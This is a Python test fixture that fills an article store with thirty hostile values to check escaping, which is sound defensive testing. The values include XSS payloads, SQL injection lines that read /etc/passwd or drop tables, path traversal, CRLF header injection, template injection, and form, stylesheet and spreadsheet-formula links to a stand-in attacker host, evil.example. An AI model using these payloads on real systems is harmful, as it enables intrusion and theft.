"""Thirty articles that want to do harm, in a store; and as many values for addresses."""

from __future__ import annotations

from datetime import date
from pathlib import Path

from communique.article import Article
from communique.reading import (
    Claim,
    Dispute,
    Entity,
    Event,
    LanguageMark,
    Mention,
    Place,
    Producer,
    Quantity,
    Reading,
    Schedule,
    Sentence,
    Source,
    Time,
)
from communique.store import open_store

# What an attribute or element of ours would have if one of these were taken for markup.
MARK = "pwned"
VALUES = (
    f"<script>{MARK}()</script>",
    f"</script><script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f"<svg/onload={MARK}()>",
    f'"><svg onload="{MARK}()">',
    f"' onmouseover='{MARK}()",
    f'" autofocus onfocus="{MARK}()',
    f"javascript:{MARK}()",
    f"JaVaScRiPt\t:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<style>@import '//evil.example/{MARK}';</style>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<form action=//evil.example/{MARK}><input name=token>",
    f"<!--<script>{MARK}()//-->",
    f"<math><mtext></mtext><script>{MARK}()</script></math>",
    f"{{{{ {MARK} }}}}{{% for x in ().__class__.__base__.__subclasses__() %}}x{{% endfor %}}",
    f"${{{MARK}}}#{{{MARK}}}<%= {MARK} %>",
    "\u202e\u2066\u2067\u200fright to left\u2069\u202c",
    "zero\u200bwidth\u200djoiner\ufeffand\u2060more",
    "\x00\x01\x08\x1b[31mred\x1b[0m\x7f\x9b",
    "one\r\nSet-Cookie: pwned=1\r\n\r\n<b>two</b>",
    "'; DROP TABLE articles; --",
    "' UNION SELECT text FROM read_text('/etc/passwd') --",
    "%' OR 1=1; ATTACH '/tmp/x.duckdb'; --",
    "../../../../etc/passwd",
    '=HYPERLINK("http://evil.example","pwned")',
    "\U0001d4d0\u0301\u0301\u0301\u0301\ufdd0\ufffe\U0010ffff" + "\u0489" * 300,
)
assert len(VALUES) == 30


def fill(path: Path) -> Path:
    """Make the store; every value stands wherever a reading has text."""
    with open_store(path) as store, store.transaction():
        for i, value in enumerate(VALUES, start=1):
            assert store.add(_reading(value, i), place=f"{value} {i}") == i
        store.flush()
        run = store.connection.execute
        for i in range(1, len(VALUES), 2):
            value = VALUES[i]
            run(
                "INSERT INTO happenings VALUES (?, 'ACCUSE', NULL, 'occurred', ?, ?, 'JPN', ?, ?, ?, 2, 0.9)",
                [i, date(2024, 3, 1), date(2024, 3, 1), value, [value], [VALUES[i - 1]]],
            )
            run("INSERT INTO tellings VALUES (?, ?, 1), (?, ?, 1)", [i, i, i, i + 1])
            run(
                "INSERT INTO differences VALUES (?, 'number', ?, ?, 0, 5, 1, ?, 0, 5, NULL)",
                [i, value, i, i + 1],
            )
    return path


def _reading(value: str, number: int) -> Reading:
    huge = value * 200 if number == len(VALUES) else value
    text = f"{value} accused {value} of harm. 12 ships of {value} sank on 1 March 2024. {huge} said so."
    article = Article(
        text=text,
        id=value,
        title=value,
        author=value,
        publisher=value,
        url=value if number % 2 else f"https://evil.example/{value}",
        published=date(2024, 3, 1),
        published_from="metadata",
        blocks=((0, len(text)),),
    )
    accused, ships = text.index(" accused ") + 1, text.index("12 ships")
    end = text.index(" of harm.") + len(" of harm.")
    said = text.rindex(" said so.") + 1
    reading = Reading(Producer("0.1.0", value), article)
    reading.sentences = [Sentence("s1", 0, end), Sentence("s2", end + 1, len(text))]
    first, second = (0, len(value)), (accused + len("accused "), accused + len("accused ") + len(value))
    reading.entities = [
        Entity("n1", value, "person", "JPN", ["GOV"], value, None, [Mention(*first, "name")]),
        Entity("n2", f"{value} 2", "organization", "PRK", [], None, f"x:{value}", [Mention(*second, "name")]),
    ]
    reading.times = [Time("t1", 0, 3, "date", value, "2024-03-01", "2024-03-01")]
    reading.places = [Place("p1", *first, value, "JPN", 35.0, 139.0, 1)]
    said_at, all_of_it, end_of_it = [(said, said + 4)], [(0, end)], [(accused, end)]
    reading.claims = [
        Claim("c1", Source("n1", [first]), said_at, all_of_it, "indirect", "assert", 0.9, None, "t1"),
        Claim("c2", Source("n2", [second]), said_at, end_of_it, "indirect", "deny", 1.0, "c1"),
    ]
    common = (["diplomatic"], 3, -2.0, "112", accused, accused + 7, "s1", ["n1"], ["n2"])
    reading.events = [
        Event("e1", "ACCUSE", None, *common, "occurred", False, "t1", "p1", "c2", 0.9),
        Event("e2", value, value, *common, "planned", False, "t1", "p1", None, 0.8),
    ]
    reading.disputes = [Dispute("d1", ["c1", "c2"], "denial", value, [first, second])]
    reading.schedule = [Schedule("k1", "t1", "e2", value, *first, "scheduled")]
    reading.quantities = [Quantity("q1", ships, ships + 2, 12.0, value, value, False, "c1")]
    reading.language = [LanguageMark(*first, "loaded")]
    return reading
